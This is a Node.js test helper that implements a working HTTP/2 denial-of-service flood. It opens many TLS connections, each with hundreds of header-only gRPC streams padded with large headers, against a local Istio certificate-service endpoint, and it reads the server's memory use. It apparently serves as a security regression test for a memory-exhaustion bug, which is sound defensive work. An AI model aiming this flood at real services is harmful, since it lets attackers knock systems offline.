// @ts-check
// The unauthenticated memory-exhaustion attack of issue 11, as a real TLS HTTP/2 client: many
// connections, each opening many gRPC streams that send HEADERS only (a large padding header, no
// token) and never the request message. Shared by test/security.test.ts and `npm run chaos`.
import { spawn } from 'node:child_process';
import { connect } from 'node:http2';
import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';

/**
 * Starts the flood and returns a handle; `stop()` closes every connection. Connections the server
 * refuses or resets are counted, never retried: the point is to measure what the server keeps.
 *
 * @param {{ port: number, ca: string, connections?: number, streams?: number, headerBytes?: number }} options
 */
export function startStreamFlood(options) {
  const connections = options.connections ?? 30;
  const streams = options.streams ?? 256;
  const padding = 'x'.repeat(options.headerBytes ?? 60 * 1024);
  const sessions = [];
  const stats = { opened: 0, refused: 0, streamsOpened: 0, streamsReset: 0 };
  for (let c = 0; c < connections; c++) {
    const session = connect(`https://127.0.0.1:${options.port}`, {
      ca: options.ca,
      servername: 'localhost',
      // Let the client put big header blocks on the wire; the server decides what it accepts.
      maxSendHeaderBlockLength: 1024 * 1024,
      maxSessionMemory: 1024,
      peerMaxConcurrentStreams: streams,
    });
    let connected = false;
    session.on('error', () => undefined);
    session.once('connect', () => {
      connected = true;
      stats.opened++;
      for (let s = 0; s < streams && !session.destroyed && !session.closed; s++) {
        let stream;
        try {
          stream = session.request(
            {
              ':method': 'POST',
              ':path': '/istio.v1.auth.IstioCertificateService/CreateCertificate',
              'content-type': 'application/grpc',
              te: 'trailers',
              'x-padding': padding,
            },
            { endStream: false },
          );
        } catch {
          break; // session went away while we were opening streams
        }
        stats.streamsOpened++;
        stream.on('error', () => undefined);
        stream.on('close', () => {
          if (stream.rstCode !== 0) stats.streamsReset++;
        });
        stream.resume();
      }
    });
    session.once('close', () => {
      if (!connected) stats.refused++;
    });
    sessions.push(session);
  }
  return {
    stats,
    stop: () => {
      for (const session of sessions) session.destroy();
    },
  };
}

/** Resident set size of a process in bytes, from /proc (Linux). */
export function residentBytes(pid) {
  const match = /^VmRSS:\s+(\d+) kB/m.exec(readFileSync(`/proc/${pid}/status`, 'utf8'));
  if (!match) throw new Error(`no VmRSS for process ${pid}`);
  return Number(match[1]) * 1024;
}

/**
 * Runs the flood in a separate Node process, so its CPU-heavy header encoding does not stall the
 * caller's event loop (the caller plays the legitimate workload). `stats()` is the latest report;
 * `stop()` ends the attacker and resolves with its final stats.
 *
 * @param {{ port: number, ca: string, connections?: number, streams?: number, headerBytes?: number }} options
 */
export function spawnStreamFlood(options) {
  const child = spawn(process.execPath, [fileURLToPath(import.meta.url)], { stdio: ['pipe', 'pipe', 'inherit'] });
  let latest = { opened: 0, refused: 0, streamsOpened: 0, streamsReset: 0 };
  let buffered = '';
  child.stdout.on('data', (chunk) => {
    const lines = (buffered + chunk.toString()).split('\n');
    buffered = lines.pop() ?? '';
    for (const line of lines) if (line) latest = JSON.parse(line);
  });
  const exited = new Promise((resolve) => child.once('exit', resolve));
  child.stdin.end(JSON.stringify(options));
  return {
    stats: () => latest,
    /** Resolves once every connection is open and has started its streams (or after `timeoutMs`). */
    underway: async (timeoutMs = 30_000) => {
      const until = Date.now() + timeoutMs;
      const connections = options.connections ?? 30;
      while (latest.opened + latest.refused < connections && Date.now() < until) await new Promise((r) => setTimeout(r, 100));
      return latest;
    },
    stop: async () => {
      child.kill('SIGKILL'); // its sockets close with the process; no need to wait for a busy event loop
      await exited;
      return latest;
    },
  };
}

// As a child process: options as JSON on stdin, stats as JSON lines on stdout every 200 ms.
if (process.argv[1] === fileURLToPath(import.meta.url)) {
  let input = '';
  process.stdin.on('data', (chunk) => (input += chunk));
  process.stdin.on('end', () => {
    const flood = startStreamFlood(JSON.parse(input));
    const report = () => process.stdout.write(JSON.stringify(flood.stats) + '\n');
    setInterval(report, 200);
  });
}
